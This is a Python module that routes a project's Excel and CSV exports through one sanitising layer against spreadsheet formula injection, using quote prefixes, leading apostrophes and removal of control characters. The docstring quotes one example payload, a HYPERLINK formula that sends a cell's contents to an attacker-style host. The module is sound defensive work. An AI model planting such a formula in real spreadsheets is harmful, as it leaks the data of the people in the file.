"""The one door every Excel and CSV file we write goes through (no Django).

A cell that a spreadsheet program could run as a formula is written inert (CWE-1236,
"CSV injection"): text that starts with ``=``, ``+``, ``-``, ``@`` (or their full-width
forms, which a Chinese input method types), or with a tab, carriage return or line feed.
Customer names and public survey answers are typed by anyone, so an export must never
turn ``=HYPERLINK("http://evil.example/?leak="&A1,"点我")`` into a live link.

- In Excel files the text is kept exactly as stored, as a text cell with Excel's own
  "quote prefix" flag (what Excel sets when a person types ``'=1+1``): it shows as typed,
  is never evaluated, and reads back unchanged, so an exported XLSForm still round-trips.
- In CSV files, which carry no cell types, the text gets a leading apostrophe (OWASP's
  advice); plain numbers such as ``-12.5`` or ``+8613800000000`` are left as they are,
  since a program reads them as numbers, never as formulas.
- Characters that the Excel file format cannot hold (control characters) are dropped
  instead of failing the whole export.

Use :func:`workbook` instead of ``openpyxl.Workbook`` and :func:`csv_writer` or
:func:`frame_to_csv` instead of ``csv.writer`` and ``DataFrame.to_csv``; a test keeps
every module of the project to that.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from pathlib import Path
from typing import IO, Any

import pandas as pd
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell, WriteOnlyCell
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
CONTROL_STARTS = ("\t", "\r", "\n")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_SHEET_TITLE_BANNED = re.compile(r"[\[\]:*?/\\]")


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet program could take this text for a formula."""
    if not text:
        return False
    if text.startswith(CONTROL_STARTS):
        return True
    stripped = text.lstrip()
    if not stripped.startswith(FORMULA_STARTS):
        return False
    return _PLAIN_NUMBER.fullmatch(stripped) is None


def inert_text(value: Any) -> Any:
    """A CSV field that no spreadsheet program evaluates (non-text values unchanged)."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def clean_text(value: str) -> str:
    """The text without the control characters an Excel file cannot hold."""
    return ILLEGAL_CHARACTERS_RE.sub("", value)


def sheet_title(title: str) -> str:
    """A title Excel accepts: at most 31 characters, none of []:*?/\\."""
    cleaned = _SHEET_TITLE_BANNED.sub("_", clean_text(str(title))).strip("'") or "-"
    return cleaned[:31]


def _make_inert(cell: Cell) -> None:
    value = cell.value
    if not isinstance(value, str):
        return
    cleaned = clean_text(value)
    if cleaned != value:
        cell.value = cleaned
    if cell.data_type == "f" or is_formula_like(cleaned):
        cell.data_type = "s"
        cell.quotePrefix = True


def _clean(value: Any) -> Any:
    return clean_text(value) if isinstance(value, str) else value


class WriteOnlySheet:
    """A write-only sheet whose rows are made inert as they are appended."""

    def __init__(self, sheet: Any) -> None:
        self.sheet = sheet

    def append(self, values: Iterable[Any]) -> None:
        row: list[Any] = []
        for value in values:
            if isinstance(value, str):
                cell = WriteOnlyCell(self.sheet, value=clean_text(value))
                _make_inert(cell)
                row.append(cell)
            else:
                row.append(value)
        self.sheet.append(row)


class Sheet:
    """An openpyxl worksheet (styles, charts, widths: every attribute is openpyxl's) whose
    text values lose the characters Excel cannot hold as they are written; the workbook
    makes them inert when it is saved."""

    def __init__(self, sheet: Worksheet) -> None:
        self.sheet = sheet

    def append(self, values: Iterable[Any]) -> None:
        self.sheet.append([_clean(v) for v in values])

    def cell(self, row: int, column: int, value: Any = None) -> Cell:
        return self.sheet.cell(row, column, _clean(value))

    def __getitem__(self, key: Any) -> Any:
        return self.sheet[key]

    def __getattr__(self, name: str) -> Any:
        return getattr(self.sheet, name)

    def __setattr__(self, name: str, value: Any) -> None:
        if name == "sheet":
            object.__setattr__(self, name, value)
        else:
            setattr(self.sheet, name, value)


class Book:
    """An openpyxl workbook that writes every cell inert.

    In the normal mode the sheets are openpyxl's own (styles, charts, ``cell()``) behind
    :class:`Sheet`, and :meth:`save` goes over every cell; in the write-only mode (large
    exports, little memory) each row is made inert as it is appended.
    """

    def __init__(self, *, write_only: bool = False) -> None:
        self.write_only = write_only
        self.book = Workbook(write_only=write_only)

    @property
    def active(self) -> Sheet:
        if self.write_only:
            raise TypeError("a write-only workbook has no active sheet")
        return Sheet(self.book.active)  # type: ignore[arg-type]

    def create_sheet(self, title: str) -> Any:
        sheet = self.book.create_sheet(sheet_title(title))
        return WriteOnlySheet(sheet) if self.write_only else Sheet(sheet)

    def save(self, target: str | Path | IO[bytes]) -> None:
        if not self.write_only:
            for sheet in self.book.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        _make_inert(cell)
        self.book.save(target)

    def to_bytes(self) -> bytes:
        stream = io.BytesIO()
        self.save(stream)
        return stream.getvalue()


def workbook(*, write_only: bool = False) -> Book:
    return Book(write_only=write_only)


class CsvWriter:
    """``csv.writer`` whose every field is inert."""

    def __init__(self, stream: IO[str], **options: Any) -> None:
        self.writer = csv.writer(stream, **options)

    def writerow(self, values: Iterable[Any]) -> None:
        self.writer.writerow([inert_text(v) for v in values])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: IO[str], **options: Any) -> CsvWriter:
    return CsvWriter(stream, **options)


def frame_to_csv(frame: pd.DataFrame, target: str | Path | IO[str] | None = None, **options: Any):
    """``DataFrame.to_csv`` with every text cell and header inert; returns the text when
    no target is given, as pandas does."""
    safe = frame.rename(columns=lambda c: inert_text(c) if isinstance(c, str) else c)
    for column in safe.columns:
        if safe[column].dtype == object or pd.api.types.is_string_dtype(safe[column].dtype):
            safe[column] = safe[column].map(inert_text)
    return safe.to_csv(target, **options)
